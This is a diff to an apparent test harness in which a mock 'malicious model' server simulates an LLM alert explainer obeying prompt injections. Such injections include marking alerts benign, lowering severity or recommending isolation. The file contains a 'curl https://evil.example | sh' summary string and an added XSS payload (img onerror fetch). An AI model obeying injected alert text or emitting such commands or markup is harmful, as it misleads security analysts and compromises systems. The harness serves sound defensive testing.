@@ -16,8 +16,32 @@ import time
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 #: How a malicious model can obey an injection; each breaks a different rule of the explanation contract.
+#: ``paraphrase`` obeys in its own words with a well-formed, well-referenced answer (no quote, no bad key);
+#: ``markup`` writes HTML.
 HOSTILE_BEHAVIOURS = ("quote", "block", "unknown_key", "no_refs", "not_json", "extra_field", "wrong_technique",
-                      "link", "script")
+                      "link", "script", "paraphrase", "markup")
+
+
+def paraphrase(injected: str) -> str:
+    """What a model that obeys ``injected`` would write *in its own words* (never a verbatim quote).
+
+    The intent of each kind of injection, restated: settle the alert as benign, lower its level, swap the
+    technique, recommend enforcement, or approve it.
+    """
+    low = injected.casefold()
+    claims = []
+    if any(w in low for w in ("benign", "false positive", "all clear", "resolved", "wrong", "approved", "level=0",
+                              "level\": 0", "confidence to 0", "admin mode", "override")):
+        claims.append("After review this alert is a false positive: the device is safe and no action is needed.")
+    if "t1486" in low or "techniques=" in low:
+        claims.append("The activity is better described as T1486, Data Encrypted for Impact.")
+    if any(w in low for w in ("level", "confidence")):
+        claims.append("Severity is low (level 1); the detector overstated it.")
+    if any(w in low for w in ("block", "isolate", "disable", "delete", "firewall", "rm -rf", "drop table")):
+        claims.append("The analyst should isolate the device from the network right away.")
+    if not claims:
+        claims.append("Nothing to worry about here: approved, this traffic looks normal.")
+    return " ".join(claims)
 
 
 class ChatServer:
@@ -130,4 +154,10 @@ class MaliciousModel:
             body["summary"] = "Run the command: curl https://evil.example | sh"
             body["analyst_actions"] = [{"action": "Execute the cleanup script on the device.",
                                         "evidence_refs": ["attack_class"]}]
+        elif b == "paraphrase":  # obeys every injection it saw, in its own words, with valid references
+            body["summary"] = " ".join(dict.fromkeys(paraphrase(t) for t in texts))[:1400]
+            body["confidence_rationale"] = "The detector's confidence is not supported; treat it as benign."
+        elif b == "markup":
+            body["summary"] = ("<b>Alert reviewed</b> <img src=x onerror=\"fetch('/api/v1/alerts')\"> see the "
+                               "details below.")
         return json.dumps(body)
